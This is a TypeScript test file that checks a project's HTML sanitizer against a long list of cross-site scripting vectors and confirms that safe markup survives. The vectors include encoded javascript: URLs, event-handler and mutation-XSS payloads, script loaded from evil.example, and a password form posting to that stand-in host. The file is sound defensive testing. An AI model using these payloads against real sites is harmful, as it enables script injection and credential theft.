import sanitizeHtml from 'sanitize-html'
import { describe, expect, it } from 'vitest'

import { sanitize } from '@/lib/sanitize'

// --- An independent checker for "nothing here can execute" ------------------
// It reads the output the way a lenient browser would: every <...> is a tag,
// attribute values are entity-decoded and stripped of the whitespace and
// control characters browsers ignore inside URL schemes.

const ALLOWED_TAGS = new Set([...sanitizeHtml.defaults.allowedTags, 'img', 'a', 'div', 'iframe'])
const YOUTUBE_HOSTS = new Set([
  'www.youtube.com',
  'youtube.com',
  'www.youtube-nocookie.com',
  'youtube-nocookie.com',
])
const SAFE_CSS = new Set([
  'color',
  'background-color',
  'text-align',
  'font-weight',
  'font-style',
  'text-decoration',
  'vertical-align',
  'width',
  'height',
  'max-width',
  'margin',
  'padding',
])
const NAMED: Record<string, string> = {
  colon: ':',
  tab: '\t',
  newline: '\n',
  lpar: '(',
  rpar: ')',
  sol: '/',
  amp: '&',
  quot: '"',
  apos: "'",
  lt: '<',
  gt: '>',
}

function decode(value: string): string {
  return value.replace(/&(?:#x([0-9a-f]+)|#(\d+)|([a-z]+));?/gi, (match, hex, dec, name) => {
    if (hex) return String.fromCodePoint(parseInt(hex, 16))
    if (dec) return String.fromCodePoint(parseInt(dec, 10))
    return NAMED[String(name).toLowerCase()] ?? match
  })
}

const squash = (value: string): string =>
  decode(value)
    // control characters are exactly what browsers ignore inside a scheme
    // eslint-disable-next-line no-control-regex
    .replace(/[\u0000-\u0020\u007f-\u00a0\u200b\ufeff]/g, '')
    .toLowerCase()

type Attr = { name: string; value: string }
type Tag = { name: string; closing: boolean; attrs: Attr[] }

function tags(html: string): Tag[] {
  const found: Tag[] = []
  for (const match of html.matchAll(/<\s*([a-z!?/][^\s/>]*)([^>]*)>?/gi)) {
    const raw = (match[1] ?? '').toLowerCase()
    const closing = raw.startsWith('/')
    const name = closing ? raw.slice(1) : raw
    const attrs: Attr[] = []
    const attrRe = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g
    for (const a of (match[2] ?? '').matchAll(attrRe)) {
      attrs.push({ name: (a[1] ?? '').toLowerCase(), value: a[2] ?? a[3] ?? a[4] ?? '' })
    }
    found.push({ name, closing, attrs })
  }
  return found
}

const URL_ATTRS = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'poster',
  'background',
  'srcset',
])

/** Every reason the HTML could run script, redress the UI or load a foreign frame. */
function problems(html: string): string[] {
  const found: string[] = []
  const flat = squash(html)
  for (const needle of [
    '<script',
    'javascript:',
    'vbscript:',
    'data:',
    'expression(',
    'url(',
    '-moz-binding',
  ]) {
    if (flat.includes(needle)) found.push(`contains ${needle}`)
  }
  for (const tag of tags(html)) {
    if (tag.name.startsWith('!')) {
      found.push(`comment or doctype ${tag.name}`)
      continue
    }
    if (!ALLOWED_TAGS.has(tag.name)) found.push(`tag <${tag.name}>`)
    for (const { name, value } of tag.attrs) {
      if (/^on/.test(name)) found.push(`event handler ${name}`)
      if (name === 'srcdoc' || name === 'http-equiv' || name === 'formaction')
        found.push(`attribute ${name}`)
      if (URL_ATTRS.has(name)) {
        const url = squash(value)
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1]
        if (url.startsWith('//')) found.push(`protocol-relative ${name}`)
        const schemes = tag.name === 'img' ? ['http', 'https'] : ['http', 'https', 'mailto', 'tel']
        if (scheme && !schemes.includes(scheme)) found.push(`${name} scheme ${scheme}`)
      }
      if (name === 'style') {
        for (const decl of decode(value).split(';')) {
          const prop = decl.split(':')[0]?.trim().toLowerCase()
          if (prop && !SAFE_CSS.has(prop)) found.push(`style property ${prop}`)
          // Negative offsets pull content over other parts of the page.
          if (/:.*-\s*\d/.test(decl)) found.push(`negative style value ${decl}`)
        }
      }
      if (tag.name === 'a' && name === 'target' && value === '_blank') {
        const rel = tag.attrs.find((a) => a.name === 'rel')?.value ?? ''
        if (!/\bnoopener\b/.test(rel) || !/\bnoreferrer\b/.test(rel))
          found.push('target=_blank without rel')
      }
    }
    if (tag.name === 'iframe' && !tag.closing) {
      const src = tag.attrs.find((a) => a.name === 'src')?.value
      let host = ''
      let protocol = ''
      try {
        const url = new URL(decode(src ?? ''))
        host = url.hostname
        protocol = url.protocol
      } catch {
        // unparseable: reported below
      }
      if (!YOUTUBE_HOSTS.has(host) || protocol !== 'https:')
        found.push(`iframe src ${src ?? '(none)'}`)
    }
  }
  return found
}

// --- Vectors -----------------------------------------------------------------

const VECTORS: string[] = [
  // script in all its spellings
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<p>ok<script>alert(1)',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)">',
  '<IMG SRC=x ONERROR="alert(1)">',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)" style="width:100%;height:100%">hover</div>',
  '<p onclick="alert(1)">click</p>',
  '<a href="https://ok.example" onfocus="alert(1)" autofocus>x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<marquee onstart=alert(1)>x</marquee>',
  // javascript:, vbscript:, data: URLs and their disguises
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\rscript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/phish">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="mailto:someone@example.org">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="https://ok.example" xlink:href="javascript:alert(1)">x</a>',
  // reverse tabnabbing
  '<a href="https://evil.example" target="_blank">x</a>',
  '<a href="https://evil.example" target="_blank" rel="opener">x</a>',
  // svg and math
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  // frames
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="https://youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://evilyoutube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="//www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="/embed/local"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  // style based
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(&quot;javascript:alert(1)&quot;)">x</p>',
  '<p style="color:red;background-color:url(https://evil.example/track.gif)">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<p style="margin:-9999px">x</p>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // document-level tricks
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<base href="javascript:alert(1)//">',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<embed src="javascript:alert(1)">',
  '<applet code="Evil.class"></applet>',
  '<template><img src=x onerror=alert(1)></template>',
  '<portal src="https://evil.example"></portal>',
  // broken, nested and unclosed markup
  '<img src="x" alt="a"onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<a href="https://ok.example"<script>alert(1)</script>>x</a>',
  '<div><p><a href="javascript:alert(1)"><img src=x onerror=alert(1)',
  '<p title="x" <img src=x onerror=alert(1)>',
  '<div <script>alert(1)</script>>',
  '</title><script>alert(1)</script>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  // comments, conditional comments and CDATA
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  // mutation XSS: content that changes meaning when re-parsed
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<style><style/><img src=x onerror=alert(1)></style>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
]

describe('sanitize: XSS vectors', () => {
  it('the checker flags every raw vector (so the assertions below can fail)', () => {
    const unflagged = VECTORS.filter((vector) => problems(vector).length === 0)
    expect(unflagged).toEqual([])
  })

  it.each(VECTORS.map((vector) => [vector]))('neutralises %j', (vector) => {
    const out = sanitize(vector)
    expect(problems(out)).toEqual([])
    expect(out).not.toMatch(/<script/i)
    // Handlers inside a tag, ignoring quoted attribute values (escaped text there is inert).
    expect(out.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\son\w+\s*=/i)
    expect(out.toLowerCase()).not.toContain('javascript:')
  })
})

describe('sanitize: allowed markup survives', () => {
  it('keeps paragraphs, headings, lists and inline formatting', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>italic</em> and <code>code</code>.</p><ul><li>one</li><li>two</li></ul><blockquote>q</blockquote>'
    expect(sanitize(html)).toBe(html)
  })

  it('keeps links with safe schemes and relative URLs', () => {
    const html =
      '<p><a href="https://example.org/a?b=1&amp;c=2">https</a> <a href="http://example.org">http</a> ' +
      '<a href="mailto:info@example.org">mail</a> <a href="tel:+5491100000000">tel</a> ' +
      '<a href="/about">rel</a> <a href="#top">hash</a></p>'
    expect(sanitize(html)).toBe(html)
  })

  it('adds rel="noopener noreferrer" to target=_blank links and replaces any given rel', () => {
    expect(sanitize('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(sanitize('<a href="https://example.org" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it('drops targets that could address other windows', () => {
    expect(sanitize('<a href="/x" target="_top">x</a>')).toBe('<a href="/x">x</a>')
    expect(sanitize('<a href="/x" target="victim">x</a>')).toBe('<a href="/x">x</a>')
    expect(sanitize('<a href="/x" target="_self">x</a>')).toBe('<a href="/x" target="_self">x</a>')
  })

  it('keeps images with http(s) or relative sources', () => {
    const html =
      '<img src="https://cdn.example.org/a.png" alt="A chart" width="640" height="480" />' +
      '<img src="/media/b.jpg" alt="" />'
    expect(sanitize(html)).toBe(html)
  })

  it('removes an image whose only source was unsafe', () => {
    expect(sanitize('<p>a<img src="javascript:alert(1)" alt="x">b</p>')).toBe('<p>ab</p>')
  })

  it('keeps tables with colspan and rowspan', () => {
    const html =
      '<table><thead><tr><th colspan="2">Head</th></tr></thead><tbody><tr><td rowspan="2">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>'
    expect(sanitize(html)).toBe(html)
  })

  it('keeps only prose classes and only safe style properties', () => {
    expect(sanitize('<div class="footer-col"><p class="text-sm small">x</p></div>')).toBe(
      '<div><p class="text-sm">x</p></div>',
    )
    expect(
      sanitize(
        '<p style="text-align:center;color:#336699;position:absolute;font-weight:bold;z-index:10">x</p>',
      ),
    ).toBe('<p style="text-align:center;color:#336699;font-weight:bold">x</p>')
  })

  it.each([
    'https://www.youtube.com/embed/dQw4w9WgXcQ',
    'https://youtube.com/embed/dQw4w9WgXcQ',
    'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
    'https://youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30',
  ])('keeps a YouTube iframe from %s', (src) => {
    const html = `<iframe src="${src}" width="560" height="315" frameborder="0" title="Video" allowfullscreen></iframe>`
    const out = sanitize(html)
    expect(out).toContain(`src="${src}"`)
    expect(out).toMatch(
      /^<iframe [^>]*width="560"[^>]*height="315"[^>]*frameborder="0"[^>]*allowfullscreen/,
    )
    expect(problems(out)).toEqual([])
  })

  it('keeps only known features in an iframe allow list', () => {
    const out = sanitize(
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" allow="autoplay; camera; microphone; encrypted-media"></iframe>',
    )
    expect(out).toContain('allow="autoplay; encrypted-media"')
  })

  it('drops a disallowed iframe entirely, keeping the surrounding content', () => {
    expect(
      sanitize(
        '<p>before</p><iframe src="https://youtube.com.evil.example/embed/x"></iframe><p>after</p>',
      ),
    ).toBe('<p>before</p><p>after</p>')
  })

  it('keeps the text of stripped wrappers but not of script or style', () => {
    expect(sanitize('<font color="red">hello</font>')).toBe('hello')
    expect(sanitize('<p>a<script>var secret = 1</script><style>p{}</style>b</p>')).toBe('<p>ab</p>')
  })

  it('keeps markup-looking text inside attributes escaped', () => {
    const html = '<a href="https://ok.example" title="&lt;img src=x onerror=alert(1)&gt;">x</a>'
    expect(sanitize(html)).toBe(html)
  })

  it('escapes text that looks like markup instead of dropping it', () => {
    expect(sanitize('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>')).toBe(
      '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>',
    )
  })
})

describe('sanitize: empty input', () => {
  it.each([null, undefined, '', ' ', '\n\t  \n'])('turns %j into an empty string', (input) => {
    expect(sanitize(input)).toBe('')
  })

  it('returns an empty string when nothing survives', () => {
    expect(sanitize('<script>alert(1)</script>')).toBe('')
    expect(sanitize('  <!-- note -->  ')).toBe('')
  })
})
